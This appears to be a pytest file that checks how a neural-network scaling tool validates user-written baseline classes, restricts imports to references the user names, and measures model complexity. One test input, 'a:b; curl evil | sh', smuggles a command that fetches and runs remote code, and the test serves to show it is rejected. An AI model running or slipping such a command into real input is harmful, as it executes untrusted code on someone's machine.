"""A user's own baseline: checked with clear errors, measured where it has no closed form."""

from __future__ import annotations

import dataclasses
import importlib
import random
import sys
import textwrap

import pytest
import torch
from torch import nn

from scaling_search.networks.modules import build
from scaling_search.networks.user_baselines.checks import check_baseline
from scaling_search.networks.user_baselines.flop_counter import enable, known
from scaling_search.networks.user_baselines.usable import usable_baseline
from search_spaces.baselines import (
    AllowedReferences,
    allow_reference,
    allowed_references,
    get_baseline,
)
from search_spaces.baselines.frame import Frame
from search_spaces.baselines.references import forbid_references
from search_spaces.baselines.user import COUNTER, user_baseline
from search_spaces.coefficients import PUBLISHED
from search_spaces.errors import InputError
from search_spaces.families import family
from search_spaces.networks.complexity import Complexity
from search_spaces.networks.spec import NetworkSpec, StageSpec, StemSpec
from search_spaces.planning import make_plan
from search_spaces.specs.space import SearchSpace


def conv(inputs, outputs, stride):
    return nn.Sequential(nn.Conv2d(inputs, outputs, 3, stride, 1, bias=False), nn.ReLU())


class Plain:
    """A stem, a stage, a classifier; subclasses spoil one thing each."""

    name = "plain"
    base = NetworkSpec(
        baseline="plain",
        resolution_px=12,
        stem=StemSpec(8, 3, 1),
        stages=(StageSpec("plain", 8, 2, 2, 3),),
        head_width=0,
        classes=5,
    )

    def module(self, spec):
        stage = spec.stages[0]
        layers = [conv(spec.in_channels, spec.stem.width, spec.stem.stride)]
        inputs = spec.stem.width
        for index in range(self.depth(stage)):
            layers.append(conv(inputs, stage.width, stage.stride if index == 0 else 1))
            inputs = stage.width
        head = nn.Sequential(nn.AdaptiveAvgPool2d(1), nn.Flatten(), nn.Linear(inputs, spec.classes))
        return nn.Sequential(*layers, head)

    def depth(self, stage):
        return stage.depth


class Exact(Plain):
    def complexity(self, spec):
        stage, width = spec.stages[0], spec.stem.width
        px = spec.resolution_px
        half = -(-px // stage.stride)
        stem = 9 * spec.in_channels * width
        inner = 9 * width * stage.width + 9 * stage.width**2 * (stage.depth - 1)
        last = stage.width * spec.classes
        return Complexity(
            stem * px**2 + inner * half**2 + stage.width * half**2 + last,
            stem + inner + last + spec.classes,
            width * px**2 + stage.width * stage.depth * half**2 + spec.classes,
        )


class IgnoresDepth(Plain):
    def depth(self, stage):
        return 2


class WrongFormula(Exact):
    def complexity(self, spec):
        found = super().complexity(spec)
        return Complexity(found.flops + 1, found.params, found.activations)


class Unsteady(Plain):
    def module(self, spec):
        made = super().module(spec)
        nn.init.constant_(made[0][0].weight, random.random())
        return made


class WrongClasses(Plain):
    def module(self, spec):
        return nn.Sequential(super().module(spec), nn.Linear(spec.classes, 5))


class Unused(Plain):
    def module(self, spec):
        made = super().module(spec)
        made[0].spare = nn.Parameter(nn.init.zeros_(nn.Linear(1, 1).weight))
        made[0].forward = made[0][0].forward
        return made


class Fails(Plain):
    def module(self, spec):
        return nn.Linear(3, 5)


class NotAModule(Plain):
    def module(self, spec):
        return "network"


class NoTable:
    name = "no_table"

    def module(self, spec):
        return nn.Identity()


class BadTable(Plain):
    base = {"stem": 8}  # noqa: RUF012


class NeedsArguments(Plain):
    def __init__(self, size):
        self.size = size


@pytest.fixture
def enabled(monkeypatch, tmp_path):
    """A folder of the test's own, from which a command is started."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    token = COUNTER.set(None)
    enable()
    yield tmp_path
    COUNTER.reset(token)
    forbid_references()


def named(name):
    """As the user types it."""
    allow_reference(f"{__name__}:{name}")
    return f"{__name__}:{name}"


def referred(name):
    return get_baseline(named(name))


@pytest.fixture(autouse=True)
def importable(monkeypatch):
    monkeypatch.setitem(sys.modules, __name__, sys.modules[Plain.__module__])


def test_what_it_must_do_is_checked_and_said(enabled):
    said = check_baseline(referred("Plain"))
    assert "it has no closed form, so fvcore counts every network" in said
    assert "its closed form equals fvcore on 9 networks" in check_baseline(referred("Exact"))


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("IgnoresDepth", "depth × 2 changes nothing: "),
        ("WrongFormula", "its closed form says Complexity(flops="),
        ("Unsteady", "two networks built from one seed of torch's generator differ; draw weights"),
        ("WrongClasses", "forward gives (2, 5) for 2 images and 7 classes"),
        ("Unused", "no gradient reaches 0.spare; use every parameter"),
        ("Fails", "forward of (2, 3, 12, 12) images fails (RuntimeError"),
        ("NotAModule", "module(spec) gives a str; return a torch nn.Module"),
        ("NoTable", "is a NoTable without base; see docs/baselines.md, 'Your own baseline'"),
        ("BadTable", "base is {'stem': 8}, it must be a NetworkSpec"),
        ("NeedsArguments", "cannot be made (TypeError"),
        ("Missing", "has no 'Missing'; check the name after the colon"),
    ],
)
def test_what_it_does_wrong_is_named_with_the_remedy(enabled, name, message):
    with pytest.raises(InputError) as caught:
        check_baseline(referred(name))
    assert message in str(caught.value)


def test_what_passed_is_not_checked_again_until_its_file_changes(enabled, monkeypatch):
    monkeypatch.setenv("SCALING_SEARCH_CACHE_DIR", str(enabled / "cache"))
    with pytest.raises(InputError, match="depth × 2 changes nothing"):
        usable_baseline(named("IgnoresDepth"))
    name = named("Exact")
    assert usable_baseline(name) is get_baseline(name)

    def checked(baseline):
        raise AssertionError("checked again")

    monkeypatch.setattr("scaling_search.networks.user_baselines.checks.check_baseline", checked)
    usable_baseline(name)
    changed = dataclasses.replace(get_baseline(name), source="other")
    monkeypatch.setattr(
        "scaling_search.networks.user_baselines.usable.get_baseline", lambda name: changed
    )
    with pytest.raises(AssertionError, match="checked again"):
        usable_baseline(name)


def test_a_name_that_cannot_be_imported_says_where_to_start(enabled):
    allow_reference("nowhere.nets:Net")
    with pytest.raises(InputError, match="start from the folder that holds the package"):
        get_baseline("nowhere.nets:Net")


def test_no_code_is_run_that_the_user_did_not_name(enabled):
    allow_reference("wave:Net", [str(enabled)])
    with pytest.raises(InputError) as caught:
        get_baseline("antigravity:Net")
    assert str(caught.value) == (
        "baseline 'antigravity:Net' refers to Python code, which is run only if you name it "
        "yourself, never because a file, a database or a request does: add --baseline "
        "antigravity:Net to the command on your own machine, or install its package with an entry "
        "point (docs/baselines.md, 'Your own baseline')"
    )
    assert "antigravity" not in sys.modules


def test_the_name_counts_and_not_its_module(enabled):
    """Another class of a module that may be run could have effects of its own."""
    assert referred("Plain").name == f"{__name__}:Plain"
    with pytest.raises(InputError, match="run only if you name it yourself"):
        get_baseline(f"{__name__}:Exact")


@pytest.mark.parametrize(
    "name", ["a:b; curl evil | sh", "a b:c", ":Net", "nets:", "nets:a.b", "a:b:c", "1a:b", "a:b\n"]
)
def test_what_is_no_reference_is_not_offered_for_typing(name):
    """The remedy repeats the name, which may be copied into a shell."""
    for use in (get_baseline, allow_reference):
        with pytest.raises(InputError) as caught:
            use(name)
        assert str(caught.value) == (
            f"baseline {name!r} is neither a name nor a reference to a class: write "
            "package.module:Name"
        )


def test_what_was_allowed_is_forbidden_again_with_its_folders(enabled):
    before = list(sys.path)
    allow_reference("nets:Net", [str(enabled), before[0]])
    assert allowed_references() == AllowedReferences(("nets:Net",), (str(enabled), before[0]))
    assert sys.path == [*before, str(enabled)]
    forbid_references()
    assert (allowed_references(), sys.path) == (AllowedReferences(), before)


def test_without_a_closed_form_each_distinct_network_of_a_plan_is_measured_once(enabled):
    space = SearchSpace.model_validate(
        {
            "baseline": named("Plain"),
            "target": {"tolerance": 0.3},
            "rounding": {"width_divisor": 1},
            "lattice": {"divisions": 2},
        }
    )
    before = len(known())
    plan = make_plan(space)
    counted = len(known()) - before
    assert len([c for c in plan.candidates if c.eligible]) >= 3
    exact = user_baseline(Exact, "exact").complexity
    for candidate in plan.candidates:
        assert candidate.complexity == exact(candidate.spec)
    make_plan(space)
    assert len(known()) - before == counted
    assert counted < 60


def test_it_has_a_family_and_a_line_of_python_that_builds_its_members(enabled):
    frame = Frame.of(referred("Exact"), classes=5)
    members = family(frame, PUBLISHED, members=3)
    line = members[2].python
    assert f'allow_reference("{__name__}:Exact"); ' in line
    forbid_references()
    scope = {}
    exec(line, scope)
    assert sum(p.numel() for p in scope["model"].parameters()) == members[2].complexity.params


def test_a_module_in_a_file_beside_the_user_is_found(enabled):
    (enabled / "mynets.py").write_text(
        textwrap.dedent(f"""
            from {__name__} import Plain
            class Mine(Plain):
                name = "mine"
        """)
    )
    importlib.invalidate_caches()
    allow_reference("mynets:Mine", [str(enabled)])
    baseline = get_baseline("mynets:Mine")
    assert baseline.name == baseline.base.baseline == "mynets:Mine"
    assert build(baseline.base)(torch.zeros(1, 3, 12, 12)).shape == (1, 5)
